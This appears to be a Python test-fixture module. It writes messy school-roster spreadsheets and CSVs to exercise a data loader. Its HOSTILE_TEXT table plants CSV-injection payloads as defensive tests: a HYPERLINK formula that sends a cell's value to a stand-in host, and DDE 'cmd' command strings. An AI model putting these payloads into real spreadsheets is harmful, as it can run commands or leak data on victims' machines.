"""Write feeds the way departments really send them (SPEC §2): GB18030 and BOM CSVs,
XLSX and XLS with real Excel dates and codes typed into number cells, title and note
rows above the header, header aliases with stray spaces, full-width digits, lower-case
check characters, and every allowed date form.

Every change here is one the loader must undo exactly: the expected findings are
computed from the canonical rows, before this module dresses them up. What the loader
must refuse instead (totals and note rows, identity numbers Excel turned into numbers)
is added as extra rows beside the canonical ones, and counted (`Planted`).
"""

from __future__ import annotations

import csv
import random
from collections import Counter
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import openpyxl
import xlwt

from kcbx.feeds import feed as get_feed
from kcbx.outputs.cells import cell

FULL_WIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
# Free text a spreadsheet would run (OWASP CSV injection): a full-width ＝ the loader folds
# into '=', a DDE command, an @-function. One cell each; they must load as data, be noted
# in audit.formula_cells and stay text in every workbook KCBX writes.
HOSTILE_TEXT = {
    "huji": ("姓名", '＝HYPERLINK("http://example.invalid/?d="&C3,"点此查看")'),
    "quanfan": ("责任人", "=cmd|' /C calc'!A0"),
    "schools": ("学校名称", "@SUM(1+1)*cmd|' /C calc'!A0"),
}
FORMS = ("utf-8", "utf-8-sig", "gb18030", "xlsx", "xls")
WORKBOOKS = ("xlsx", "xls")
XLS_MAX_ROWS = 65_536  # the Excel 97-2003 format's limit


def date_forms(day: date) -> tuple[str, ...]:
    return (
        day.isoformat(),
        f"{day.year}/{day.month}/{day.day}",
        f"{day:%Y%m%d}",
        f"{day.year}年{day.month}月{day.day}日",
    )


def grade_form(grade: str, rng: random.Random) -> str:
    g = int(grade)
    forms = [grade, f"{'一二三四五六七八九'[g - 1]}年级"]
    if g >= 7:
        forms.append(f"初{'一二三'[g - 7]}")
    return rng.choice(forms)


class Dresser:
    """Turns canonical rows of one feed into delivered cells, seeded for reproducibility.
    `omit`: canonical names of optional columns this file does not have at all."""

    def __init__(self, feed_name: str, rng: random.Random, excel: bool, omit: Sequence[str] = ()):
        self.feed = get_feed(feed_name)
        self.rng = rng
        self.excel = excel
        self.columns = [c for c in self.feed.columns if c.name not in omit]
        if any(c.required for c in self.feed.columns if c.name in omit):
            raise ValueError(f"{feed_name}: a file cannot omit a required column ({', '.join(omit)})")
        # Each file picks a header per column: the canonical name or an alias, maybe padded.
        self.headers = []
        for column in self.columns:
            name = rng.choice((column.name, *column.aliases)) if column.aliases else column.name
            self.headers.append(f" {name} " if rng.random() < 0.2 else name)

    def cells(self, row: dict) -> list[object]:
        out: list[object] = []
        for column in self.columns:
            value = row.get(column.name, "")
            out.append(self._dress(column.type, value))
        return out

    def _dress(self, kind: str, value: str) -> object:
        rng = self.rng
        if value in ("", None):
            return None if self.excel else ""
        if kind == "date":
            try:
                day = date.fromisoformat(value)
            except ValueError:
                return value  # a deliberately broken date stays broken
            if self.excel and rng.random() < 0.7:
                return day  # a real Excel date cell
            return rng.choice(date_forms(day))
        if kind == "id":
            r = rng.random()
            if r < 0.1:
                return value.translate(FULL_WIDTH)
            if r < 0.3 and value.endswith("X"):
                return value[:-1] + "x"
            if r < 0.4:
                return f" {value} "
            return value
        if kind == "grade":
            return grade_form(value, rng)
        if kind == "digits" and rng.random() < 0.05:
            return value.translate(FULL_WIDTH)
        if kind == "digits" and self.excel and value.isdigit() and rng.random() < 0.3:
            return int(value)  # a code typed into a number cell (exact: at most 12 digits)
        if rng.random() < 0.05:
            return f"{value}\u3000" if kind == "code" else f" {value}"
        return value


def write_file(
    path: Path, form: str, header: list[str], rows: Iterable[list[object]], preamble: Sequence[Sequence[object]] = ()
) -> Path:
    """One delivered file; `preamble` rows (a title, a note, blank rows) go above the header."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if form == "xlsx":
        path = path.with_suffix(".xlsx")
        workbook = openpyxl.Workbook(write_only=True)
        sheet = workbook.create_sheet("数据")
        for row in preamble:
            sheet.append(list(row))
        if preamble and preamble[0]:
            sheet.merged_cells.add(f"A1:{openpyxl.utils.get_column_letter(len(header))}1")  # the merged title
        sheet.append(header)
        for row in rows:
            # text cells, as a department's export holds them (a name starting with '='
            # is text there, not a formula)
            sheet.append([cell(sheet, v) if isinstance(v, str) else v for v in row])
        workbook.save(path)
        return path
    if form == "xls":
        return _write_xls(path.with_suffix(".xls"), header, rows, preamble)
    path = path.with_suffix(".csv")
    with path.open("w", encoding=form, newline="") as fh:
        writer = csv.writer(fh)
        writer.writerows(preamble)
        writer.writerow(header)
        for row in rows:
            writer.writerow(["" if c is None else c.isoformat() if isinstance(c, date) else c for c in row])
    return path


def _write_xls(path: Path, header: list[str], rows: Iterable[list[object]], preamble: Sequence[Sequence[object]]):
    """Excel 97-2003, as the national 学籍 system and older office PCs export it: strings are
    text cells (xlwt writes a formula only when asked for one), dates real date cells."""
    workbook = xlwt.Workbook(encoding="utf-8")
    sheet = workbook.add_sheet("数据")
    dated = xlwt.easyxf(num_format_str="YYYY-MM-DD")
    lines = [*preamble, header, *rows]
    if len(lines) > XLS_MAX_ROWS:
        raise ValueError(f"{path.name}: {len(lines)} rows do not fit an .xls sheet ({XLS_MAX_ROWS})")
    for r, row in enumerate(lines):
        if r == 0 and preamble and preamble[0]:
            sheet.write_merge(0, 0, 0, len(header) - 1, row[0])
            continue
        for c, value in enumerate(row):
            if value is None or value == "":
                continue
            if isinstance(value, date):
                sheet.write(r, c, value, dated)
            else:
                sheet.write(r, c, value)
    workbook.save(str(path))
    return path


@dataclass
class Planted:
    """Rows the messy writer added beside the canonical ones, which the loader must
    quarantine: per feed (rows read) and per reason."""

    rows: Counter = field(default_factory=Counter)
    reasons: Counter = field(default_factory=Counter)

    def add(self, feed_name: str, reason: str, count: int = 1) -> None:
        self.rows[feed_name] += count
        self.reasons[reason] += count


def title_rows(feed_name: str, term_id: str, clerk: str) -> list[list[str]]:
    """A government spreadsheet's merged title, its note row and a blank row."""
    feed = get_feed(feed_name)
    return [
        [f"长川市{feed.provider}{feed.label}花名册（{term_id}）"],
        [f"填报单位：长川市{feed.provider}　填报日期：{term_id[:4]}-09-30　填表人：{clerk}　联系电话：13800000000"],
        [],
    ]


def footer_rows(count: int, clerk: str, width: int) -> list[list[str]]:
    """What a clerk types below the data: a blank row, the total, a note and a signature,
    each as wide as the table (as Excel exports them)."""
    rows = [[], ["合计", f"{count}人"], ["备注：本表由乡镇汇总"], [f"填表人：{clerk}", "审核人：（签字）"]]
    return [[*row, *[""] * (width - len(row))] if row else [] for row in rows]


def excel_broken_copies(rows: list[list[object]], id_position: int, form: str, limit: int = 2) -> list[list[object]]:
    """Rows pasted in again from a sheet whose 身份证号 column was a number: Excel kept 15
    significant digits. In a workbook the cell is a number; in a CSV it is Excel's text
    form 4.11085201001012E+17."""
    copies = []
    for row in rows:
        number = str(row[id_position] or "").strip()
        if len(number) == 18 and number.isdigit():
            lost = float(number)
            copies.append([*row[:id_position], lost if form in WORKBOOKS else f"{lost:.14E}", *row[id_position + 1 :]])
        if len(copies) == limit:
            break
    return copies


def plant_hostile_text(rows: dict[str, list[dict]]) -> dict[str, str]:
    """Put HOSTILE_TEXT into the first row of each feed that has a value there (for the
    persuasion records, into every row of the child with the most of them, so it is the
    责任人 of a case whichever action is the latest); returns feed -> raw column planted."""
    planted = {}
    for feed_name, (header, value) in HOSTILE_TEXT.items():
        candidates = [row for row in rows.get(feed_name, []) if row.get(header)]
        if not candidates:
            continue
        chosen = candidates[:1]
        if feed_name == "quanfan":
            counts = Counter(row.get("身份证号") or "" for row in candidates)
            child = max(sorted(counts), key=lambda number: counts[number])
            chosen = [row for row in candidates if (row.get("身份证号") or "") == child]
        for row in chosen:
            row[header] = value
        planted[feed_name] = next(c.col for c in get_feed(feed_name).columns if c.name == header)
    return planted
